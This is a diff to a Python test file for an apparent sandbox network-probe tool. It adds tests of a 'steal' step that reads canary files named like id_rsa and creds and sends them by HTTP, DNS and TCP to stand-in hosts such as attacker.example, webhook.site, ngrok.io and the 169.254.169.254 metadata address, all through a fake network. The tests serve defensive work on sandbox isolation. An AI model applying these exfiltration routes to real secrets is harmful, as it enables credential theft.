@@ -242,6 +242,34 @@ def test_a_proxy_makes_a_sandbox_networked_whatever_its_interfaces(monkeypatch: 
     assert probe_runner.Agent(fakewire.orders([], proxy="http://127.0.0.1:3128")).networked
 
 
+def test_a_steal_sends_every_readable_secret_in_one_request_per_url_and_records_only_its_own_read(tmp_path: Path) -> None:
+    """The web sends of every secret ride on one step: each URL is asked once, its body holds every file the
+    sandbox could read (the first unreadable or not), and the other files' reads are their own steps' records."""
+    first, second, gone = tmp_path / "id_rsa", tmp_path / "creds", tmp_path / "absent"
+    second.write_text("  CANARY-2  \n")
+    net = FakeNet("t")
+    agent = _agent(net)
+    step = wire.StealStep(str(first), ".s0.t.attacker.example", ("https://a.example/upload/t.s", "https://b.example/upload/t.s"),
+                          ("https://files.example/npm/t.s/",), None, (str(second), str(gone)))
+    out = io.StringIO()
+    with contextlib.redirect_stdout(out):
+        agent.steal("exfil-secret", step)  # its own file is unreadable: the others still go out
+    assert [(r["host"], r["method"]) for r in sorted(net.http, key=lambda r: r["host"])] == [
+        ("a.example", "POST"), ("b.example", "POST"), ("files.example", "GET")]
+    assert all(r["body"] == "CANARY-2" for r in net.http if r["method"] == "POST")
+    assert next(r["path"] for r in net.http if r["method"] == "GET").endswith("CANARY-2")
+    reads = [r for r in parse_runner_output(out.getvalue()) if r.step == "read"]
+    assert [(r.target, r.ok) for r in reads] == [(str(first), False)]  # one read on record: the step's own
+    assert not net.dns and not net.tcp  # nothing of its own was read: nothing to spell into names
+
+    first.write_text("CANARY-1")
+    net.http.clear()
+    with contextlib.redirect_stdout(io.StringIO()):
+        agent.steal("exfil-secret", step)
+    assert {r["body"] for r in net.http if r["method"] == "POST"} == {"CANARY-1\nCANARY-2"}
+    assert net.dns  # its own file, spelled into names
+
+
 def test_a_marker_from_another_run_proves_nothing(tmp_path: Path) -> None:
     ev, world = _run(tmp_path, arrive=True)
     other = Evidence(**{**ev.__dict__, "token": "ffffffffffff"})
@@ -279,9 +307,12 @@ def test_every_allowed_name_and_a_fresh_name_under_every_allowed_wildcard_is_an_
     orders = {o["id"]: o["steps"] for o in orders_for(("exfil-via-allowed-domain", "exfil-secret"), ctx)}
     upload_hosts = {urlsplit(s["url"]).hostname for s in orders["exfil-via-allowed-domain"]}
     assert {"webhook.site", "169.254.169.254", "t0k3nup.ngrok.io", "pypi.org"} <= upload_hosts
-    for step in orders["exfil-secret"]:
-        stolen_to = {urlsplit(u).hostname for u in step["urls"]}
-        assert {"webhook.site", "169.254.169.254"} <= stolen_to and any(h.endswith(".ngrok.io") for h in stolen_to)
+    first, *rest = orders["exfil-secret"]
+    stolen_to = {urlsplit(u).hostname for u in first["urls"]}
+    assert {"webhook.site", "169.254.169.254"} <= stolen_to and any(h.endswith(".ngrok.io") for h in stolen_to)
+    # every other secret rides along in those same requests, and has only its DNS and raw TCP sends of its own
+    assert [first["path"], *first["also"]] == [s["path"] for s in orders["exfil-secret"]] == list(ctx.loot)
+    assert all(not s["urls"] and not s["get_urls"] and not s["also"] and s["dns_suffix"] and s["tcp"] for s in rest)
 
 
 def test_fronting_orders_ask_the_proxy_about_each_target_then_name_it_inside_every_allowed_hosts_tunnel() -> None:
